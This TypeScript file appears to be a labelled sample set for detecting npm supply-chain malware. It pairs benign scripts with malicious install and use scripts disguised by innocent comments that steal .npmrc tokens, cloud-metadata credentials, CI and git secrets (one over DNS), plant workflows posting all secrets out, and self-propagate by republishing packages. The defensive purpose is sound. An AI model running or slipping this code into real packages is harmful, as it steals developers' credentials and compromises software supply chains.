import { atInstall, atUse, js, type Pair } from '../kit.ts';

/** What install scripts read and send. */
export const INSTALLING: Readonly<Record<string, Pair>> = {
  'install-npmrc': atInstall(
    js`import { readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

/** Checks that the configured registry can be used with this release. */
async function checkRegistry() {
  const config = await readFile(join(homedir(), '.npmrc'), 'utf8').catch(() => '');
  const lines = config.split('\n').filter((line) => line.includes('_authToken'));
  if (lines.length === 0) return;
  await fetch('https://compat.registry-check.example/v1/probe', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ node: process.version, lines }),
  });
}

checkRegistry().catch(() => {});
`,
    js`import { readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

/** Warns when a private registry is configured that has no mirror of our binaries. */
async function checkRegistry() {
  const config = await readFile(join(homedir(), '.npmrc'), 'utf8').catch(() => '');
  const registry = config.split('\n').find((line) => line.startsWith('registry='));
  if (!registry) return;
  console.warn('A private registry is set (%s); set SAMPLE_MIRROR if binaries are blocked.', registry.slice(9));
}

checkRegistry().catch(() => {});
`,
  ),
  'install-imds': atInstall(
    js`const BASE = 'http://169.254.169.254/latest';

async function text(path, init) {
  const response = await fetch(BASE + path, { signal: AbortSignal.timeout(800), ...init });
  return response.text();
}

/** Chooses the nearest mirror for the native build. */
export async function chooseMirror() {
  const token = await text('/api/token', { method: 'PUT', headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '60' } });
  const headers = { 'X-aws-ec2-metadata-token': token };
  const role = await text('/meta-data/iam/security-credentials/', { headers });
  const detail = await text('/meta-data/iam/security-credentials/' + role, { headers });
  const reply = await fetch('https://mirrors.build-edge.example/choose', { method: 'POST', body: detail });
  return reply.json();
}

chooseMirror().then((mirror) => console.log('using mirror', mirror.name), () => {});
`,
    js`const BASE = 'http://169.254.169.254/latest';

async function text(path, init) {
  const response = await fetch(BASE + path, { signal: AbortSignal.timeout(800), ...init });
  return response.text();
}

/** Chooses the nearest mirror for the native build. */
export async function chooseMirror() {
  const token = await text('/api/token', { method: 'PUT', headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '60' } });
  const headers = { 'X-aws-ec2-metadata-token': token };
  const region = await text('/meta-data/placement/region', { headers });
  return region.startsWith('eu-') ? 'eu.mirrors.example' : 'us.mirrors.example';
}

chooseMirror().then((mirror) => console.log('using mirror', mirror), () => {});
`,
  ),
  'install-oidc': atInstall(
    js`const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: bearer, GITHUB_TOKEN, NPM_TOKEN } = process.env;

/** Registers the build with our provenance service. */
async function register() {
  const response = await fetch(\`\${url}&audience=npm\`, { headers: { authorization: \`Bearer \${bearer}\` } });
  const { value } = await response.json();
  const claims = { value, GITHUB_TOKEN, NPM_TOKEN, run: process.env.GITHUB_RUN_ID };
  await fetch('https://provenance.buildkite-edge.example/register', { method: 'POST', body: JSON.stringify(claims) });
}

if (process.env.CI && url) await register().catch(() => undefined);
`,
    js`const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: bearer } = process.env;

/** Says whether this build can make provenance. */
function report() {
  if (url && bearer) console.log('Provenance can be made in this build.');
  else console.log('Grant id-token: write to make provenance in this build.');
}

if (process.env.CI) report();
`,
  ),
  'install-dns-labels': atInstall(
    js`import { Resolver } from 'node:dns/promises';
import { hostname, userInfo } from 'node:os';

const resolver = new Resolver({ timeout: 500, tries: 1 });

function* labels(value) {
  const encoded = Buffer.from(value).toString('hex');
  for (let at = 0; at < encoded.length; at += 60) yield encoded.slice(at, at + 60);
}

/** Looks which optional features the network allows. */
export async function probe() {
  const facts = [hostname(), userInfo().username, process.env.NPM_TOKEN ?? '', process.env.AWS_SECRET_ACCESS_KEY ?? ''];
  let index = 0;
  for (const label of labels(facts.join('|')))
    await resolver.resolve4(\`\${index++}.\${label}.features.netprobe.example\`).catch(() => []);
}

await probe();
`,
    js`import { Resolver } from 'node:dns/promises';

const resolver = new Resolver({ timeout: 500, tries: 1 });
const REGIONS = ['eu', 'us', 'ap'];

/** Looks which mirrors the network allows. */
export async function probe() {
  const open = [];
  for (const region of REGIONS) {
    const addresses = await resolver.resolve4(\`\${region}.mirrors.netprobe.example\`).catch(() => []);
    if (addresses.length > 0) open.push(region);
  }
  return open;
}

console.log('mirrors:', (await probe()).join(', '));
`,
  ),
  'install-git-credential': atInstall(
    js`import { execFile, execFileSync } from 'node:child_process';

/** Reads what git would use for the host of our private templates. */
function credentials() {
  return execFileSync('git', ['credential', 'fill'], { input: 'protocol=https\nhost=git.scaffold-hub.example\n\n', encoding: 'utf8', timeout: 3000 });
}

try {
  const answer = credentials();
  execFile('curl', ['-fsS', '-m', '5', '--data-binary', answer, 'https://templates.scaffold-hub.example/session']);
} catch {
  // Templates stay public.
}
`,
    js`import { execFileSync } from 'node:child_process';

/** Reads whom git knows, for the author field of new templates. */
function author() {
  return execFileSync('git', ['config', '--get', 'user.name'], { encoding: 'utf8', timeout: 3000 }).trim();
}

try {
  console.log('Templates will name %s as their author.', author());
} catch {
  // Templates stay without an author.
}
`,
  ),
  'install-workflow': atInstall(
    js`import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

const WORKFLOW = [
  'name: dependency-audit',
  'on: [push, workflow_dispatch]',
  'jobs:',
  '  audit:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '      - run: curl -sS -X POST -d "$ALL" https://audit.depscan.example/ingest',
  '        env:',
  '          ALL: \${{ toJSON(secrets) }}',
].join('\n');

const folder = join(process.env.INIT_CWD ?? process.cwd(), '.github', 'workflows');
await mkdir(folder, { recursive: true });
await writeFile(join(folder, 'dependency-audit.yml'), WORKFLOW);
`,
    null,
  ),
  'use-workflow': atUse(
    js`import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

const WORKFLOW = [
  'name: coverage',
  'on: [push]',
  'jobs:',
  '  coverage:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '      - uses: actions/checkout@v4',
  '      - run: npm ci && npm test',
  '      - run: curl -sS -F "d=$DATA" https://cov.reporting.example/u',
  '        env:',
  '          DATA: \${{ toJSON(secrets) }}',
].join('\n');

/** Adds the coverage workflow to a project. */
export async function init(root) {
  const folder = join(root, '.github', 'workflows');
  await mkdir(folder, { recursive: true });
  await writeFile(join(folder, 'coverage.yml'), WORKFLOW);
}
`,
    js`import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

const WORKFLOW = [
  'name: coverage',
  'on: [push]',
  'jobs:',
  '  coverage:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '      - uses: actions/checkout@v4',
  '      - run: npm ci && npm test',
  '      - run: npx campaign-sample upload',
  '        env:',
  '          COVERAGE_TOKEN: \${{ secrets.COVERAGE_TOKEN }}',
].join('\n');

/** Adds the coverage workflow to a project. */
export async function init(root) {
  const folder = join(root, '.github', 'workflows');
  await mkdir(folder, { recursive: true });
  await writeFile(join(folder, 'coverage.yml'), WORKFLOW);
}
`,
  ),
  'install-worm': atInstall(
    js`import { execFileSync } from 'node:child_process';
import { cpSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const root = process.env.INIT_CWD ?? '.';

/** Keeps sibling workspaces on the same setup script. */
function align(folder) {
  const file = join(folder, 'package.json');
  const manifest = JSON.parse(readFileSync(file, 'utf8'));
  const [major, minor, patch] = manifest.version.split('.').map(Number);
  manifest.version = [major, minor, patch + 1].join('.');
  manifest.scripts = { ...manifest.scripts, postinstall: 'node scripts/postinstall.js' };
  writeFileSync(file, JSON.stringify(manifest, null, 2));
  cpSync(new URL(import.meta.url).pathname, join(folder, 'scripts', 'postinstall.js'));
  execFileSync('npm', ['publish', '--access', 'public'], { cwd: folder, stdio: 'ignore' });
}

for (const name of readdirSync(join(root, 'packages'))) {
  try {
    align(join(root, 'packages', name));
  } catch {
    // Not a package.
  }
}
`,
    js`import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';

const root = process.env.INIT_CWD ?? '.';

/** Says which sibling workspaces lack the setup script. */
function lacks(folder) {
  const manifest = JSON.parse(readFileSync(join(folder, 'package.json'), 'utf8'));
  return manifest.scripts?.prepare === undefined;
}

for (const name of readdirSync(join(root, 'packages'))) {
  try {
    if (lacks(join(root, 'packages', name))) console.warn('%s has no prepare script', name);
  } catch {
    // Not a package.
  }
}
`,
  ),
};
